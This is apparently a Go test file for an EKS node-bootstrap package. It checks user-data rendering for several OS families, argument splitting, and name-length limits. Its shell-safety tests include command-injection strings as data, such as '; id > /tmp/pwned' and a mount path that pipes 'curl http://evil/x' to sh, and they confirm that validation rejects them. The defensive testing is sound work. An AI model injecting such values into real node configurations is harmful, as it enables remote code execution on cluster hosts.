package eks

import (
	"encoding/base64"
	"slices"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"

	"github.com/instancemgr/instance-manager/api/v1alpha1"
	"github.com/instancemgr/instance-manager/test/env"
)

var testCluster = ClusterInfo{Name: "prod", Endpoint: "https://prod.eks.example", CertificateAuthority: "Q0E=", ServiceCIDR: "10.100.0.0/16", Version: "1.31"}

// Every OS family's user data registers the group's labels and taints the
// way a kubelet would: the local environment's bridge (which stands in for
// the kubelet) must read back exactly what was written.
func TestUserDataRegistersLabelsAndTaints(t *testing.T) {
	labels := map[string]string{"team": "a", "tier": "web", v1alpha1.LabelInstanceGroup: "nodes"}
	taints := []corev1.Taint{
		{Key: "dedicated", Value: "web", Effect: corev1.TaintEffectNoSchedule},
		{Key: "spot", Effect: corev1.TaintEffectNoExecute},
	}
	for _, family := range []string{v1alpha1.OSFamilyAmazonLinux2, v1alpha1.OSFamilyAmazonLinux2023, v1alpha1.OSFamilyBottlerocket} {
		t.Run(family, func(t *testing.T) {
			ud := bootstrap{cluster: testCluster, osFamily: family, labels: labels, taints: taints, maxPods: 58,
				extraArgs: "--kubelet-extra-args=--v=2"}.UserData()
			reg, err := env.ParseUserData(base64.StdEncoding.EncodeToString([]byte(ud)))
			if err != nil {
				t.Fatalf("parsing %s user data: %v\n%s", family, err, ud)
			}
			for k, v := range labels {
				if reg.Labels[k] != v {
					t.Errorf("label %s = %q, want %q\n%s", k, reg.Labels[k], v, ud)
				}
			}
			if len(reg.Taints) != len(taints) {
				t.Fatalf("taints %v, want %v\n%s", reg.Taints, taints, ud)
			}
			for i := range taints {
				if reg.Taints[i].Key != taints[i].Key || reg.Taints[i].Value != taints[i].Value || reg.Taints[i].Effect != taints[i].Effect {
					t.Errorf("taint %d = %v, want %v", i, reg.Taints[i], taints[i])
				}
			}
		})
	}
}

func TestUserDataShapes(t *testing.T) {
	stages := []v1alpha1.UserDataStage{
		{Name: "pre", Stage: "PreBootstrap", Data: "echo pre"},
		{Name: "post", Stage: "PostBootstrap", Data: base64.StdEncoding.EncodeToString([]byte("echo post"))},
	}
	cases := []struct {
		family string
		want   []string // in order
	}{
		{v1alpha1.OSFamilyAmazonLinux2, []string{"#!/bin/bash", "echo pre",
			"/etc/eks/bootstrap.sh 'prod' --kubelet-extra-args '--node-labels=team=a --max-pods=58 --v=2' --apiserver-endpoint 'https://prod.eks.example' --b64-cluster-ca 'Q0E=' '--container-runtime' 'containerd'",
			"echo post"}},
		{v1alpha1.OSFamilyAmazonLinux2023, []string{"multipart/mixed", "echo pre", "kind: NodeConfig", "apiServerEndpoint: https://prod.eks.example",
			"cidr: 10.100.0.0/16", "maxPods: 58", `- "--node-labels=team=a"`, `- "--v=2"`, "echo post"}},
		{v1alpha1.OSFamilyBottlerocket, []string{"[settings.kubernetes]", `cluster-name = "prod"`, "max-pods = 58", `"team" = "a"`}},
		{v1alpha1.OSFamilyWindows, []string{"<powershell>", "echo pre", "-EKSClusterName 'prod' -KubeletExtraArgs '--node-labels=team=a --v=2'", "echo post", "</powershell>"}},
	}
	for _, tc := range cases {
		t.Run(tc.family, func(t *testing.T) {
			ud := bootstrap{cluster: testCluster, osFamily: tc.family, labels: map[string]string{"team": "a"}, maxPods: 58,
				extraArgs: "--kubelet-extra-args '--v=2' --container-runtime containerd", stages: stages}.UserData()
			at := 0
			for _, w := range tc.want {
				i := strings.Index(ud[at:], w)
				if i < 0 {
					t.Fatalf("%q missing (or out of order) in:\n%s", w, ud)
				}
				at += i + len(w)
			}
		})
	}
}

func TestSplitExtraArgs(t *testing.T) {
	cases := []struct {
		in            string
		rest, kubelet []string
	}{
		{"", nil, nil},
		{"--kubelet-extra-args=--v=2", nil, []string{"--v=2"}},
		// bootstrap.sh reads "--flag value" (N16: "--flag=value" was ignored).
		{"--use-max-pods false --kubelet-extra-args '--v=2 --max-pods=20'", []string{"--use-max-pods", "false"}, []string{"--v=2", "--max-pods=20"}},
		{`--kubelet-extra-args "--v=4" --ip-family=ipv6 --enable-docker-bridge`, []string{"--ip-family", "ipv6", "--enable-docker-bridge"}, []string{"--v=4"}},
		{`--kubelet-extra-args "--v=4" --dns-cluster-ip 10.0.0.10`, nil, nil}, // refused (N16)
		{"--kubelet-extra-args '--v=2' ; id > /tmp/pwned", nil, nil},
	}
	for _, tc := range cases {
		rest, kubelet := splitExtraArgs(tc.in)
		if !slices.Equal(rest, tc.rest) || !slices.Equal(kubelet, tc.kubelet) {
			t.Errorf("splitExtraArgs(%q) = %q, %q; want %q, %q", tc.in, rest, kubelet, tc.rest, tc.kubelet)
		}
	}
}

// The review's exploit strings never reach a shell line: Validate refuses
// them, and the rendering quotes what it interpolates.
func TestUserDataIsShellSafe(t *testing.T) {
	for name, b := range map[string]bootstrap{
		"bootstrap arguments": {extraArgs: "--kubelet-extra-args '--v=2' ; id > /tmp/pwned"},
		"taints removed":      {extraArgs: "--kubelet-extra-args '--register-with-taints='"},
		"mount path":          {volumes: []v1alpha1.NodeVolume{{Name: "/dev/xvdb", MountOptions: &v1alpha1.NodeVolumeMountOptions{FileSystem: "xfs", Mount: "/data; curl http://evil/x | sh #"}}}},
		"device":              {volumes: []v1alpha1.NodeVolume{{Name: "/dev/xvdb$(id)"}}},
		"file system":         {volumes: []v1alpha1.NodeVolume{{Name: "/dev/xvdb", MountOptions: &v1alpha1.NodeVolumeMountOptions{FileSystem: "xfs;id", Mount: "/data"}}}},
	} {
		if err := b.Validate(); err == nil {
			t.Errorf("%s: Validate accepted %+v", name, b)
		}
	}
	ok := bootstrap{cluster: ClusterInfo{Name: "c'l"}, volumes: []v1alpha1.NodeVolume{{Name: "/dev/xvdb", MountOptions: &v1alpha1.NodeVolumeMountOptions{FileSystem: "xfs", Mount: "/data"}}}}
	if err := ok.Validate(); err != nil {
		t.Fatal(err)
	}
	ud := ok.UserData()
	for _, want := range []string{"mkfs -t 'xfs' '/dev/xvdb' && mkdir -p '/data' && mount '/dev/xvdb' '/data'", "echo '/dev/xvdb /data xfs defaults,nofail 0 2' >> /etc/fstab", `/etc/eks/bootstrap.sh 'c'\''l'`} {
		if !strings.Contains(ud, want) {
			t.Errorf("user data lacks %q:\n%s", want, ud)
		}
	}
}

func TestNamesStayWithinAWSLimits(t *testing.T) {
	ig := &v1alpha1.InstanceGroup{}
	ig.Namespace, ig.Name = strings.Repeat("n", 63), strings.Repeat("g", 63)
	ig.Spec.EKS = &v1alpha1.EKSSpec{Configuration: &v1alpha1.EKSConfiguration{ClusterName: strings.Repeat("c", 40)}}
	if n := roleName(ig); len(n) > 64 {
		t.Errorf("role name %q is %d characters; IAM allows 64", n, len(n))
	}
	if n := groupName(ig); len(n) > 128 {
		t.Errorf("group name is %d characters; launch templates allow 128", len(n))
	}
	other := ig.DeepCopy()
	other.Name = strings.Repeat("g", 62) + "h"
	if roleName(ig) == roleName(other) {
		t.Errorf("shortened names collide: %s", roleName(ig))
	}
}
